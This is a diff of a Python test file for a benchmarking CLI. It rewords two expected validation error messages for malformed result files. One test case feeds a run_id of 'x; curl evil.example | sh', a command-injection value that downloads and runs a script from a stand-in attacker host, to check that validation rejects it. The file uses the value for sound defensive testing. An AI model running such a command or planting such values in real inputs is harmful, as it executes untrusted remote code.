@@ -91,7 +91,7 @@ def test_no_value_of_a_result_causes_a_bug(bench: Bench, tmp_path: Path, kind: s
         (("summary", "metrics", "e2e_ms", "figures", "greeting"), -99, "e2e_ms of 'greeting' is -99"),
         (("summary", "metrics", "colour"), {"count": 1, "mean": 1}, "there is no metric 'colour'"),
         (("thresholds", 0, "metric"), "colour", "there is no metric 'colour'"),
-        (("validity",), {"valid": False, "reasons": []}, "invalid for a reason"),
+        (("validity",), {"valid": False, "reasons": []}, "an invalid run has a reason"),
         (("provenance", "run_id"), "x; curl evil.example | sh", "provenance.run_id"),
         (("fingerprint", "system"), "x" * 300, "fingerprint.system"),
     ],
@@ -114,7 +114,9 @@ def test_a_valid_run_has_answered_requests(bench: Bench) -> None:
     content = json.loads((run / "result.json").read_text())
     content["summary"] |= {"requests": 0, "outcomes": {}}
     (run / "result.json").write_text(json.dumps(content))
-    assert "it is valid, and no request was answered" in bench("ci", "comment", str(run), "--dry-run").err
+    assert (
+        "a valid run has at least one answered request" in bench("ci", "comment", str(run), "--dry-run").err
+    )
 
 
 def test_a_deeply_nested_result_is_refused(bench: Bench) -> None:
